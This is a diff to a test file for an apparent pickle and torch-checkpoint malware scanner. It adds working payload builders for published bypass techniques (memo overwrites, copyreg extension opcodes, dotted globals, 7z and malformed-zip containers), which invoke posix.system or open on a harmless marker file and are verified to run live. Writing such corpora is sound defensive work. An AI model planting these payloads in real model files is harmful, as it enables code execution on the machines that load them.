@@ -12,6 +12,7 @@ from __future__ import annotations
 import io
 import json
 import shlex
+import struct
 import subprocess
 import sys
 import time
@@ -20,6 +21,7 @@ from pathlib import Path
 
 import pytest
 
+from tests import zip_forms
 from tests.helpers import run_cli, static_findings
 
 MEMOIZE, BINGET, STACK_GLOBAL = b"\x94", b"h", b"\x93"
@@ -179,6 +181,116 @@ def _legacy_second_stream(m):
     return b"L119547037146038801333356L\n.cposix\nsystem\n(" + _s(_touch(m)) + b"tR."
 
 
+# ---- published since (issue 35: picklescan's 2025-2026 advisories, nullifAI), one form per class ------------
+
+def _b(text: str) -> bytes:
+    """SHORT_BINSTRING: a protocol-1 byte string, a str to the unpickler's default ASCII decoding."""
+    raw = text.encode()
+    return b"U" + bytes([len(raw)]) + raw
+
+
+def _x(text: str) -> bytes:
+    """BINUNICODE: a string with a 4-byte length."""
+    raw = text.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def _resolve_name(m):
+    # pkgutil.resolve_name('posix:system') returns any attribute of any module: a universal gadget a blocklist missed.
+    return b"\x80\x02cpkgutil\nresolve_name\n(" + _s("posix:system") + b"tR(" + _s(_touch(m)) + b"tR."
+
+
+def _stack_global_from(push):
+    # STACK_GLOBAL takes whatever strings are on the stack, whichever opcode pushed them.
+    return lambda m: b"\x80\x04" + push("posix") + push("system") + STACK_GLOBAL + push(_touch(m)) + b"\x85R."
+
+
+def _memo_redefined(m):
+    # Memo entries 0 and 1 hold allowlisted names, then are redefined by BINPUT with the payload's before the GETs.
+    return (b"\x80\x04" + _u("collections") + b"q\x00" + _u("OrderedDict") + b"q\x01" + b"00" + _u("posix")
+            + b"q\x00" + _u("system") + b"q\x01" + b"00" + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL
+            + _u(_touch(m)) + b"\x85R.")
+
+
+def _memoize_over_a_put(m):
+    # MEMOIZE stores at len(memo), not at a counter of its own: after BINPUT 1 it overwrites entry 1, after BINPUT 2
+    # entry 2 (both unpicklers). A reader that numbers MEMOIZE 0, 1 reads system.OrderedDict; CPython posix.system.
+    return (b"\x80\x04" + _u("collections") + b"q\x01" + b"0" + _u("posix") + MEMOIZE + b"0" + _u("OrderedDict")
+            + b"q\x02" + b"0" + _u("system") + MEMOIZE + b"0" + BINGET + b"\x01" + BINGET + b"\x02" + STACK_GLOBAL
+            + _u(_touch(m)) + b"\x85R.")
+
+
+EXTENSION_CODES = {"EXT1": 0xF0, "EXT2": 0x1F0, "EXT4": 0x101F0}
+
+
+def _ext(opcode: str):
+    # EXT1/2/4 import through copyreg's extension registry (copyreg.add_extension): no module name in the stream.
+    code = EXTENSION_CODES[opcode]
+    opcode_byte, width = {"EXT1": (b"\x82", "<B"), "EXT2": (b"\x83", "<H"), "EXT4": (b"\x84", "<i")}[opcode]
+    arg = opcode_byte + struct.pack(width, code)
+    return lambda m: b"\x80\x02" + arg + b"(" + _s(_touch(m)) + b"tR."
+
+
+def _dotted_global(m):
+    # GLOBAL (not STACK_GLOBAL) with a dotted name: under protocol 4 find_class walks torch._utils -> os -> system.
+    return b"\x80\x04ctorch._utils\nos.system\n(" + _s(_touch(m)) + b"tR."
+
+
+def _getattr_through_torch(m):
+    # builtins.getattr reached as torch.builtins.getattr, the module as torch.os: no name starts with builtins or os.
+    return (b"\x80\x04" + _u("torch") + _u("builtins.getattr") + STACK_GLOBAL + b"(" + _u("torch") + _u("os")
+            + STACK_GLOBAL + _u("system") + b"tR" + _u(_touch(m)) + b"\x85R.")
+
+
+def _seven_zip(m):
+    # nullifAI: a torch checkpoint compressed with 7z (LZMA2) instead of zip. torch cannot load it; a scanner that
+    # cannot open it must not call it clean.
+    return zip_forms.seven_zip("archive/data.pkl", b"\x80\x02" + _open_call(m) + b".")
+
+
+def _zip_payload(m) -> bytes:
+    return zip_forms.with_data_pkl(zip_forms.torch_bytes(), b"\x80\x02" + _open_call(m) + b".")
+
+
+def _zip_fields(data: bytes, member: bytes, change) -> bytes:
+    """`change(record, field offsets)` on the local header and central entry of `member`."""
+    out = bytearray(data)
+    for sig, name_at, fields in ((b"PK\x03\x04", 30, {"flags": 6, "crc": 14, "nlen": 26}),
+                                 (b"PK\x01\x02", 46, {"flags": 8, "crc": 16, "nlen": 28})):
+        pos = out.find(sig)
+        while pos >= 0:
+            nlen = struct.unpack_from("<H", out, pos + fields["nlen"])[0]
+            if bytes(out[pos + name_at:pos + name_at + nlen]).endswith(member):
+                change(out, pos, fields)
+            pos = out.find(sig, pos + 4)
+    return bytes(out)
+
+
+def _zip_flag(bit: int):
+    def build(m):
+        def set_bit(out, pos, fields):
+            struct.pack_into("<H", out, pos + fields["flags"], struct.unpack_from("<H", out, pos + fields["flags"])[0]
+                             | bit)
+        return _zip_fields(_zip_payload(m), b"/data.pkl", set_bit)
+    return build
+
+
+def _zip_bad_crc(m):
+    # torch's reader (miniz, as torch calls it) never checks a record's CRC; zipfile raises on it: a scanner that
+    # skips what zipfile cannot read passes what torch loads.
+    def flip(out, pos, fields):
+        struct.pack_into("<L", out, pos + fields["crc"], struct.unpack_from("<L", out, pos + fields["crc"])[0] ^ 1)
+    return _zip_fields(_zip_payload(m), b"/data.pkl", flip)
+
+
+def _zip_dotdot_member(m):
+    # A member named with `..`: torch never reads it, unzip and a reviewer's zipfile.extractall place it elsewhere.
+    out = io.BytesIO(zip_forms.torch_bytes())
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.writestr("archive/../hook.pkl", b"\x80\x02" + _open_call(m) + b".")
+    return out.getvalue()
+
+
 FORMS = {
     "stack_global_through_memo": ("checkpoints/control/checkpoint-4/optimizer.pt", _memo_stack_global, "posix.system"),
     "protocol0_inst": ("extra/inst.pkl", _inst, "posix.system"),
@@ -207,6 +319,34 @@ FORMS = {
     "protocol0_long_first_line": ("extra/long.pkl", _long_first_line, "posix.system"),
     "proto_opcode_with_protocol_0": ("extra/proto0.pkl", _proto_header_0, "posix.system"),
     "invalid_opcode_after_the_call": ("extra/broken.bin", _broken_after_the_call, "posix.system"),
+    # Published since (issue 35): a pickle per bypass class, the containers, the wrong extensions.
+    "pkgutil_resolve_name_gadget": ("extra/resolve.pkl", _resolve_name, "pkgutil.resolve_name"),
+    "string_operands_feed_stack_global": ("extra/string_sg.pkl", _stack_global_from(_s), "posix.system"),
+    "short_binstring_operands_feed_stack_global": ("extra/binstring_sg.pkl", _stack_global_from(_b), "posix.system"),
+    "binunicode_operands_feed_stack_global": ("extra/binunicode_sg.pkl", _stack_global_from(_x), "posix.system"),
+    "memo_index_redefined_by_binput": ("extra/memo_put.pkl", _memo_redefined, "posix.system"),
+    "memoize_overwrites_a_put": ("extra/memoize.pkl", _memoize_over_a_put, "posix.system"),
+    "ext1_copyreg_extension": ("extra/ext1.pkl", _ext("EXT1"), "<copyreg extension code 240>"),
+    "ext2_copyreg_extension": ("extra/ext2.pkl", _ext("EXT2"), "<copyreg extension code 496>"),
+    "ext4_copyreg_extension": ("extra/ext4.pkl", _ext("EXT4"), "<copyreg extension code 66032>"),
+    "dotted_name_in_global_opcode": ("extra/dotted_global.pkl", _dotted_global, "torch._utils.os.system"),
+    "builtins_getattr_through_torch_attribute": ("extra/torch_getattr.pkl", _getattr_through_torch,
+                                                 "torch.builtins.getattr"),
+    "seven_zip_torch_checkpoint": ("checkpoints/control/checkpoint-4/rng_state.pth", _seven_zip, "7z archive"),
+    "zip_crc_mismatch_torch_ignores": ("extra/crc.pt", _zip_bad_crc, "Bad CRC-32"),
+    "zip_encryption_flag": ("extra/encrypted.pt", _zip_flag(0x1), "encrypted"),
+    "zip_data_descriptor_flag_without_descriptor": ("extra/descriptor.pt", _zip_flag(0x8), "data descriptor"),
+    "zip_local_name_differs_from_central": ("extra/local_name.pt",
+                                            lambda m: zip_forms.local_name_differs(_zip_payload(m)),
+                                            "local header differs"),
+    "zip_duplicate_data_pkl": ("extra/duplicate.pt", lambda m: zip_forms.duplicate_name(
+        zip_forms.torch_bytes(), b"\x80\x02" + _open_call(m) + b"."), "two entries with one name"),
+    "zip_data_pkl_case_twin_torch_resolves": ("extra/case_twin.pt", lambda m: zip_forms.case_twin(
+        zip_forms.torch_bytes(), b"\x80\x02" + _open_call(m) + b"."), "ignoring case"),
+    "zip_member_named_with_dotdot": ("extra/dotdot.pt", _zip_dotdot_member, "builtins.open"),
+    "json_extension_content_sniffed": ("extra/config.json", _global("posix", "system"), "posix.system"),
+    "safetensors_extension_content_sniffed": ("extra/model.safetensors", _global("posix", "system"),
+                                              "posix.system"),
 }
 
 # Bypasses of the scanner found while building this corpus (see the lead's report). Each mark goes when the
@@ -277,9 +417,17 @@ def test_form_is_IV506_through_the_command_line_and_never_runs(name, whole_cli_r
 
 
 LIVE_LOADER = """
-import pickle, sys, zipfile
-path = sys.argv[1]
-if zipfile.is_zipfile(path):
+import copyreg, pickle, sys, zipfile
+path, how, root = sys.argv[1], sys.argv[2], sys.argv[3]
+if how.startswith("EXT"):  # a process where something registered the extension code: copyreg's registry is global
+    copyreg.add_extension("posix", "system", int(how.split(":")[1]))
+if how == "7z":  # what a tool that opens 7z (py7zr, 7z x) hands to torch.load: the pickle inside
+    sys.path.insert(0, root)
+    from tests.zip_forms import unseven_zip
+    pickle.loads(unseven_zip(open(path, "rb").read()))
+elif how == "member":  # the reviewer's zipfile reads the member itself
+    pickle.loads(zipfile.ZipFile(path).read("archive/../hook.pkl"))
+elif zipfile.is_zipfile(path):
     import torch
     if zipfile.ZipFile(path).namelist()[0].endswith(".pt"):  # the zip inside a zip: load the inner torch file
         import io
@@ -295,7 +443,15 @@ else:
 """
 
 
-@pytest.mark.parametrize("name", [n for n in FORMS if n not in ("nt_system",)])
+# Not live on this machine: nt exists on Windows only; torch's reader refuses an encrypted record (the form is
+# refused because zipfile and a scanner cannot read it, and another reader could).
+NOT_LIVE = ("nt_system", "zip_encryption_flag")
+HOW = {"seven_zip_torch_checkpoint": "7z", "zip_member_named_with_dotdot": "member",
+       **{f"{op.lower()}_copyreg_extension": f"{op}:{code}" for op, code in EXTENSION_CODES.items()}}
+ROOT = Path(__file__).resolve().parents[1]
+
+
+@pytest.mark.parametrize("name", [n for n in FORMS if n not in NOT_LIVE])
 def test_every_form_is_a_live_payload(name, tmp_path):
     """In a throwaway child, unpickling the form really creates its marker: the corpus is not dead code."""
     rel, build, _ = FORMS[name]
@@ -304,8 +460,8 @@ def test_every_form_is_a_live_payload(name, tmp_path):
     payload.write_bytes(build(marker))
     if name == "torch_load":  # the loader form loads a second, real payload file
         Path(str(marker) + ".inner.pt").write_bytes(_zip_torch(marker))
-    subprocess.run([sys.executable, "-c", LIVE_LOADER, str(payload)], cwd=tmp_path, capture_output=True,
-                   timeout=120)
+    subprocess.run([sys.executable, "-c", LIVE_LOADER, str(payload), HOW.get(name, "auto"), str(ROOT)],
+                   cwd=tmp_path, capture_output=True, timeout=120)
     deadline = time.monotonic() + 10  # subprocess.Popen's `touch` outlives the loader by a moment
     while not marker.exists() and time.monotonic() < deadline:
         time.sleep(0.05)
